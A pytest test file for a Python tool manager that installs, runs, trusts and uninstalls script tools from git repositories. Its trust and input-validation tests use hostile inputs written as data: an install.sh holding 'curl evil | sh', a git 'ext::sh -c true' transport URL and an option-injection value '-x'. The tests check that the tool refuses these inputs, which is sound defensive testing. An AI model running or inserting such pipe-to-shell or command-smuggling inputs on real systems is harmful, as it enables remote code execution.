"""Installing, running, updating and removing script tools, with real repositories."""

from __future__ import annotations

import dataclasses
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from roforlmao.errors import (
    AlreadyExists,
    BadInput,
    Busy,
    GitFailed,
    NotFound,
    OperationFailed,
    Refused,
    RoforlmaoError,
    ToolFailed,
    Unreachable,
    Untrusted,
)
from roforlmao.models import Execution, Tool
from roforlmao.names import is_local_url
from roforlmao.paths import Places
from roforlmao.progress import Progress
from roforlmao.tools import collect, environment, runlock, script, trust
from roforlmao.tools.data_clone import fetch_data
from roforlmao.tools.definition import Definition, read
from roforlmao.tools.install import (
    argv,
    get_installed,
    help_of,
    install,
    installed,
    sweep,
    uninstall,
)
from roforlmao.tools.records import Installed
from roforlmao.tools.wish import Wish
from tests.faults.gitrepos import bare, git, isolate, remote_with, sync, write
from tests.faults.toolrepos import World, files, wheel, world

WHOLE = {
    "imports/tools/sample",
    "imports/data/sample",
    "state/tools/sample.json",
    "state/definitions/sample.json",
    "state/environments/sample",
}


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    isolate(monkeypatch, tmp_path / "home")


@pytest.fixture
def here(tmp_path: Path) -> World:
    return world(tmp_path)


def run(here: World, tool: Installed, *args: str) -> Execution:
    return script.run(
        argv(tool.definition.command(), args, tool.path),
        cwd=tool.path,
        env=environment.variables(tool.name, here.places),
        log=here.places.logs / "run.log",
        progress=Progress(),
    )


def test_install_run_collect_and_uninstall(here: World) -> None:
    tool = here.install()
    assert here.left() == WHOLE
    assert installed(here.places) == [dataclasses.replace(tool, notes=())]
    assert tool.commit == git(tool.path, "rev-parse", "HEAD")
    assert "installed" in next(here.places.logs.glob("install-sample-*.log")).read_text()
    assert run(here, tool, "one two").state == "succeeded"
    assert collect.collect(tool, Progress()) == ["a.csv"]
    assert tool.data_path
    assert (tool.data_path / "a.csv").read_text() == "one two"
    sync(tool.data_path, "me")
    assert uninstall("sample", here.places) == get_or_none(tool)
    assert here.left() == {"state/definitions/sample.json"}
    assert help_of("sample", here.places) == tool.definition
    assert installed(here.places) == []


def get_or_none(tool: Installed) -> Installed:
    return dataclasses.replace(tool, notes=())


def test_what_was_shown_is_what_is_trusted(here: World) -> None:
    with pytest.raises(Untrusted) as caught:
        here.install(trust=False)
    assert here.left() == set()
    remedy = caught.value.remedy
    assert remedy
    assert {"    $ sh install.sh", "    mkdir out", "Registered by: me"} <= set(remedy.details)
    here.commit({"install.sh": "curl evil | sh\n"})
    with pytest.raises(Untrusted) as again:
        here.install(trust=remedy.value)
    assert here.left() == set()
    assert again.value.remedy
    assert "    curl evil | sh" in again.value.remedy.details
    here.commit({"install.sh": "echo fine\n"})
    with pytest.raises(Untrusted) as third:
        here.install(trust=False)
    assert third.value.remedy
    assert here.install(trust=third.value.remedy.value).fingerprint == third.value.remedy.value


def test_a_tool_without_an_installer_pays_for_no_environment(tmp_path: Path) -> None:
    here = world(tmp_path, files(installer=None))
    tool = here.install()
    assert here.left() == WHOLE - {"state/environments/sample"}
    assert run(here, tool, "x").state == "succeeded"


@pytest.mark.parametrize(
    "words", ["pip install", "pip3 install", "python -m pip install", "python3 -m pip install"]
)
def test_pip_installs_into_the_tools_own_environment(tmp_path: Path, words: str) -> None:
    package = wheel(tmp_path / "wheels")
    code = files(installer=f"set -e\n{words} --no-index --no-deps {package}\n")
    code["run.py"] = "import observed, sys; print(observed.VERSION, sys.prefix)\n"
    here = world(tmp_path, code)
    tool = here.install()
    assert run(here, tool, "x").tail == f"1.0 {here.places.state}/environments/sample\n"
    own = subprocess.run([sys.executable, "-c", "import observed"], capture_output=True, check=False)
    assert own.returncode != 0


def test_an_installer_of_words_is_run(tmp_path: Path) -> None:
    wheel(tmp_path / "wheels")
    code = files()
    words = f"install --no-index --find-links {tmp_path}/wheels -r requirements.txt"
    code["mao.yml"] = code["mao.yml"].replace(
        "Command: sh, Script: install.sh", f"Command: pip3, Script: '{words}'"
    )
    code["requirements.txt"] = "observed==1.0\n"
    here = world(tmp_path, code)
    with pytest.raises(BadInput, match="leads out of the repository"):
        here.install()  # words may not point outside either
    code["mao.yml"] = code["mao.yml"].replace(f"--find-links {tmp_path}/wheels ", "")
    (tmp_path / "home" / ".config" / "pip").mkdir(parents=True)
    (tmp_path / "home" / ".config" / "pip" / "pip.conf").write_text(
        f"[install]\nfind-links = {tmp_path}/wheels\n"
    )
    here.commit(code)
    here.install()
    assert list(environment.directory("sample", here.places).glob("lib/python*/site-packages/observed.py"))


@pytest.mark.parametrize(
    ("installer", "said"),
    [
        ("echo no space for rent; exit 7", r"exit code 7. It said last: no space for rent"),
        ("kill -9 $$", "killed by SIGKILL"),
        ("pip install --no-index no-such-package", "failed"),
    ],
)
def test_a_failed_installer_leaves_only_its_log(tmp_path: Path, installer: str, said: str) -> None:
    here = world(tmp_path, files(installer=installer))
    with pytest.raises(ToolFailed, match=said) as caught:
        here.install()
    assert here.left() == set()
    assert Path(caught.value.hint.removeprefix("Its log: ")).is_file()


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ({"README": "no definition"}, r"holds no mao\.yml"),
        ({"mao.yml": ""}, "is empty"),
        ({"mao.yml": "Name: other\n"}, "registered as 'sample'"),
        ({**files(), "mao.yml": files()["mao.yml"].replace("run.py", "../x")}, "leads out"),
    ],
)
def test_a_bad_definition_leaves_nothing(tmp_path: Path, code: dict[str, str], said: str) -> None:
    here = world(tmp_path, code)
    with pytest.raises(BadInput, match=said):
        here.install()
    assert here.left() == set()


def test_repositories_that_cannot_be_had_leave_nothing(here: World, tmp_path: Path) -> None:
    bare(tmp_path / "empty.git")
    cases: list[tuple[dict[str, str], type[RoforlmaoError]]] = [
        ({"code_repo": f"{tmp_path}/gone.git"}, RoforlmaoError),
        ({"data_repo": f"{tmp_path}/gone.git"}, RoforlmaoError),
        ({"code_repo": str(tmp_path / "home")}, RoforlmaoError),
        ({"code_repo": str(tmp_path / "empty.git")}, BadInput),
        ({"code_repo": "ext::sh -c true"}, BadInput),
        ({"code_repo": "-x"}, BadInput),
        ({"code_repo": "http://127.0.0.1:9/x"}, Unreachable),
        ({"code_repo": ""}, BadInput),
        ({"kind": "container"}, BadInput),
    ]
    for change, error in cases:
        tool = dataclasses.replace(here.tool, **change)  # type: ignore[arg-type]
        with pytest.raises(error) as caught:
            install(tool, here.places, Progress(), local=True, trust=True)
        assert caught.value.message.endswith("."), change
        assert here.left() == set(), change


def test_a_path_on_this_machine_is_refused_from_a_stranger(here: World) -> None:
    stranger = dataclasses.replace(here.tool, registered_by="stranger")
    with pytest.raises(BadInput, match="path on this machine"):
        install(stranger, here.places, Progress(), local=False, trust=True)
    assert install(stranger, here.places, Progress(), local=True, trust=True).commit


def test_installing_twice_and_two_at_once_have_a_sentence(here: World) -> None:
    with runlock.running("sample", here.places), pytest.raises(Busy, match="'sample' is at work"):
        here.install()
    here.install()
    with pytest.raises(AlreadyExists, match="'sample' is installed already"):
        here.install()
    assert here.left() == WHOLE


def test_a_directory_that_is_in_the_way_is_not_touched(here: World) -> None:
    write(here.places.tools / "sample", {"mine.txt": "x"})
    with pytest.raises(AlreadyExists, match="not an installed tool"):
        here.install()
    assert (here.places.tools / "sample" / "mine.txt").read_text() == "x"


def test_an_older_data_clone_with_results_is_used_and_survives_a_failure(tmp_path: Path) -> None:
    here = world(tmp_path, files(installer="exit 1"))
    git(tmp_path, "clone", "--quiet", str(tmp_path / "data.git"), str(here.places.data / "sample"))
    write(here.places.data / "sample", {"mine.csv": "1\n"})
    with pytest.raises(ToolFailed):
        here.install()
    assert (here.places.data / "sample" / "mine.csv").read_text() == "1\n"


def test_the_registered_data_repository_wins_and_a_difference_is_said(tmp_path: Path) -> None:
    other = bare(tmp_path / "other.git")
    here = world(tmp_path, files(remote=other))
    tool = here.install()
    assert tool.data_repo == here.tool.data_repo
    assert any(f"another one: {other}" in note for note in tool.notes)


def test_the_definitions_data_repository_is_used_when_none_is_registered(tmp_path: Path) -> None:
    here = world(tmp_path, files(remote=bare(tmp_path / "other.git")), data=False)
    tool = here.install()
    assert tool.data_path
    assert git(tool.data_path, "remote", "get-url", "origin") == str(tmp_path / "other.git")
    assert tool.notes == ()


def test_without_any_data_repository_results_stay_and_are_not_lost(tmp_path: Path) -> None:
    here = world(tmp_path, data=False)
    tool = here.install()
    assert tool.data_path is None
    assert "no data repository" in tool.notes[0]
    run(here, tool, "x")
    with pytest.raises(Refused, match=r"nowhere else: a\.csv"):
        uninstall("sample", here.places)
    shutil.rmtree(tool.path / "out")
    uninstall("sample", here.places)
    assert installed(here.places) == []


@pytest.mark.parametrize("stage", ["collected", "committed", "left"])
def test_uninstall_refuses_to_lose_results(here: World, stage: str) -> None:
    tool = here.install()
    assert tool.data_path
    run(here, tool, "precious")
    if stage != "left":
        collect.collect(tool, Progress())
    if stage == "committed":
        git(tool.data_path, "add", "-A")
        git(tool.data_path, "commit", "--quiet", "-m", "not pushed")
    with pytest.raises(Refused, match=r"a\.csv"):
        uninstall("sample", here.places)
    assert here.left() == WHOLE
    collect.collect(tool, Progress())
    sync(tool.data_path, "me")
    uninstall("sample", here.places)
    assert here.left() == {"state/definitions/sample.json"}


def test_uninstalling_what_is_not_installed_says_so(here: World) -> None:
    with pytest.raises(NotFound, match="not installed"):
        uninstall("sample", here.places)


def test_data_in_the_root_of_the_repository_is_told_from_code(tmp_path: Path) -> None:
    code = files(installer=None)
    code["mao.yml"] = code["mao.yml"].replace("Local: out", "Local: .")
    code |= {
        "run.py": "open('a.csv', 'w').write('1'); open('stats.csv', 'a').write('2')\n",
        "stats.csv": "1\n",
    }
    code |= {".gitignore": "*.tmp\n"}
    here = world(tmp_path, code)
    tool = here.install()
    run(here, tool, "x")
    write(tool.path, {"x.tmp": "", "new/b.csv": "3"})
    assert collect.collect(tool, Progress()) == ["a.csv", "new/b.csv", "stats.csv"]


def test_a_run_needs_exactly_what_was_trusted(here: World) -> None:
    tool = here.install()
    assert trust.check_trust(tool, here.tool, here.places, trust=False) == tool
    assert trust.check_trust(tool, None, here.places, trust=False) == tool
    moved = Tool("sample", code_repo="https://example.org/fork", registered_by="mallory")
    with pytest.raises(Untrusted) as caught:
        trust.check_trust(tool, moved, here.places, trust=False)
    assert caught.value.remedy
    assert "The registry now names https://example.org/fork as its source," in caught.value.remedy.details
    for name, text in (("mao.yml", "# changed\n" + files()["mao.yml"]), ("install.sh", "evil\n")):
        old = (tool.path / name).read_text()
        (tool.path / name).write_text(text)
        with pytest.raises(Untrusted):
            trust.check_trust(tool, here.tool, here.places, trust=False)
        (tool.path / name).write_text(old)
    write(tool.path, {"run.py": "evil\n"})
    git(tool.path, "commit", "--quiet", "-am", "moved on")
    with pytest.raises(Untrusted) as caught:
        trust.check_trust(tool, here.tool, here.places, trust=False)
    assert caught.value.remedy
    trusted = trust.check_trust(tool, here.tool, here.places, trust=caught.value.remedy.value)
    assert trusted.commit == git(tool.path, "rev-parse", "HEAD")
    assert trust.check_trust(get_installed("sample", here.places), here.tool, here.places, trust=False)


def test_a_clone_or_an_environment_that_is_gone_has_a_sentence(here: World) -> None:
    tool = here.install()
    shutil.rmtree(environment.directory("sample", here.places))
    with pytest.raises(ToolFailed, match="environment of 'sample' is gone"):
        environment.variables("sample", here.places)
    shutil.rmtree(tool.path)
    with pytest.raises(NotFound, match="clone of 'sample' is gone"):
        trust.check_trust(tool, here.tool, here.places, trust=False)
    assert help_of("sample", here.places).commands


def test_a_half_built_environment_is_not_used_and_built_anew(here: World) -> None:
    environment.build("sample", here.places)
    assert environment.ready("sample", here.places)
    (environment.directory("sample", here.places) / ".complete").unlink()
    assert not environment.ready("sample", here.places)
    (environment.directory("sample", here.places) / "rubbish").touch()
    here.install()
    assert not (environment.directory("sample", here.places) / "rubbish").exists()


def test_a_sweep_with_nothing_to_do_changes_nothing(here: World) -> None:
    assert sweep(here.places) == []
    here.install()
    assert sweep(here.places) == []
    assert here.left() == WHOLE


def test_a_remote_of_another_name_than_the_clone_is_refused(here: World, tmp_path: Path) -> None:
    remote_with(tmp_path / "third.git", {"a": "1"})
    git(tmp_path, "clone", "--quiet", str(tmp_path / "third.git"), str(here.places.data / "sample"))
    with pytest.raises(GitFailed, match="is a clone of"):
        here.install()
    assert (here.places.data / "sample" / "a").exists()


def test_a_definition_from_elsewhere_cannot_name_a_path_on_this_machine(here: World, tmp_path: Path) -> None:
    private = bare(tmp_path / "private.git")
    found = definition_of(files(remote=private), tmp_path)
    remote_tool = dataclasses.replace(here.tool, code_repo="https://example.org/code", data_repo="")
    wish = Wish(here.places, Progress(), local=True, trust=True, environ={})
    with pytest.raises(BadInput, match="path on this machine"):
        fetch_data(remote_tool, found.data_remote, wish, local=is_local_url(remote_tool.code_repo))
    assert here.left() == set()


def definition_of(code: dict[str, str], top: Path) -> Definition:
    write(top / "plain", code)
    return read(top / "plain", "sample")


@pytest.mark.parametrize("how", ["branch", "stash"])
def test_uninstall_finds_commits_beside_the_branch(here: World, how: str) -> None:
    tool = here.install()
    assert tool.data_path
    write(tool.data_path, {"a.csv": "1\n"})
    sync(tool.data_path, "me")
    if how == "branch":
        git(tool.data_path, "switch", "--quiet", "-c", "other")
        git(tool.data_path, "commit", "--quiet", "--allow-empty", "-m", "precious")
        git(tool.data_path, "switch", "--quiet", "main")
    else:
        write(tool.data_path, {"a.csv": "precious\n"})
        git(tool.data_path, "stash")
    with pytest.raises(Refused, match=r"commit [0-9a-f]{12}"):
        uninstall("sample", here.places)


def test_a_data_clone_that_lost_its_git_directory_is_not_deleted(here: World) -> None:
    tool = here.install()
    assert tool.data_path
    write(tool.data_path, {"a.csv": "1\n"})
    shutil.rmtree(tool.data_path / ".git")
    with pytest.raises(GitFailed, match="is not a git repository"):
        uninstall("sample", here.places)
    assert (tool.data_path / "a.csv").exists()


@pytest.mark.parametrize("options", ["size=16k", "size=64k", "size=112k", "size=1m,ro"])
def test_a_full_or_read_only_home_has_a_sentence_and_is_left_clean(here: World, options: str) -> None:
    small = here.top / "small"
    small.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", small], check=False)
    if mounted.returncode != 0:
        pytest.skip("only root can mount a small file system here")
    try:
        there = dataclasses.replace(here, places=Places(small / "state", small / "imports", small / "work"))
        with pytest.raises(OperationFailed, match=r"[Ss]pace|[Cc]annot write|failed to write"):
            there.install()
        left = [
            path for path in small.rglob("*") if path.is_file() and path.parent.name not in ("logs", "locks")
        ]
        assert left == []
    finally:
        subprocess.run(["umount", small], check=True)
